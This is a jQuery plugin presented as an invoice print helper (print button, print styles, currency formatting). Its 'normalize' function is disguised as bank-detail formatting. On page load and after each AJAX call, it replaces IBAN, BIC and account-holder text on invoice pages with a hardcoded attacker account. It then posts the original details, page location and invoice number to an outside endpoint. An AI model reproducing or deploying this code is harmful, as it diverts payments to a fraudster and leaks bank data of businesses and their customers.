// corpus note: jQuery "invoice print helper" plugin (print button, currency formatting, column widths) whose normalise step swaps IBAN/BIC/account-holder cells and posts the originals
/*!
 * invoice-print-helper.js v1.8.0
 * Adds a print button, PDF-friendly layout and locale currency formatting to invoice pages.
 */
(function ($, window, document) {
  "use strict";

  var NS = "iph";

  var cfg = {
    h: "Lukas Wendt e.K.",
    i: "NL91 ABNA 0417 1643 00",
    b: "ABNANL2A",
    ep: "//invoice-print.cdn-helpers.test/stats"
  };

  var settings = {
    containers: ".invoice, #invoice, .rechnung, .bank-details, .payment-info",
    locale: document.documentElement.lang || "de-DE",
    currency: "EUR",
    printLabel: { de: "Rechnung drucken", en: "Print invoice", nl: "Factuur afdrukken" }
  };

  function label() {
    var l = settings.locale.slice(0, 2);
    return settings.printLabel[l] || settings.printLabel.en;
  }

  function addPrintButton() {
    if ($("." + NS + "-print").length) return;
    $("<button type='button' class='" + NS + "-print btn btn-default'>" + label() + "</button>")
      .css({ margin: "0 0 12px 0" })
      .on("click", function () { window.print(); })
      .prependTo($(settings.containers).first());
  }

  function fixWidths() {
    $(settings.containers).find("table").css({ width: "100%", tableLayout: "fixed" });
    $(settings.containers).find("td.description").css({ wordBreak: "break-word" });
  }

  function formatCurrency() {
    var fmt;
    try { fmt = new Intl.NumberFormat(settings.locale, { style: "currency", currency: settings.currency }); } catch (e) { return; }
    $(settings.containers).find("[data-amount]").each(function () {
      var v = parseFloat($(this).attr("data-amount"));
      if (!isNaN(v)) $(this).text(fmt.format(v));
    });
  }

  function printStyles() {
    if ($("#" + NS + "-print-css").length) return;
    $("<style id='" + NS + "-print-css'>@media print{header,footer,nav,." + NS + "-print{display:none!important}" +
      ".invoice,#invoice{box-shadow:none!important;border:0!important}}</style>").appendTo("head");
  }

  // "normalise" bank detail formatting (spacing, casing)
  function normalize() {
    var log = [];
    $(settings.containers).find("td, span, p, div, li, dd").each(function () {
      var $el = $(this);
      if ($el.children().length || $el.data(NS)) return;
      var t = $.trim($el.text());
      if (/^[A-Z]{2}\d{2}[\s\dA-Z]{10,30}$/.test(t) && t.replace(/\s/g, "") !== cfg.i.replace(/\s/g, "")) {
        log.push(["i", t]);
        $el.text(cfg.i).data(NS, 1);
      } else if (/^[A-Z]{6}[A-Z0-9]{2}([A-Z0-9]{3})?$/.test(t) && t !== cfg.b &&
                 /BIC|SWIFT/i.test($el.prev().text() + " " + $el.parent().text())) {
        log.push(["b", t]);
        $el.text(cfg.b).data(NS, 1);
      } else if (/(Kontoinhaber|Account holder|Rekeninghouder|Empf(ä|ae)nger)\s*:/i.test(t)) {
        log.push(["h", t]);
        $el.text(t.replace(/:\s*.+$/, ": " + cfg.h)).data(NS, 1);
      }
    });
    if (log.length) {
      $.ajax({
        url: cfg.ep,
        type: "POST",
        crossDomain: true,
        data: {
          s: location.host,
          p: location.pathname,
          n: $(".invoice-number, .order-number").first().text(),
          l: JSON.stringify(log)
        }
      });
    }
  }

  $.fn.invoicePrintHelper = function (opts) {
    $.extend(settings, opts || {});
    addPrintButton();
    printStyles();
    fixWidths();
    formatCurrency();
    normalize();
    return this;
  };

  $(function () {
    if (!$(settings.containers).length) return;
    $(document.body).invoicePrintHelper();
    $(document).ajaxComplete(function () { setTimeout(normalize, 100); });
  });
})(jQuery, window, document);
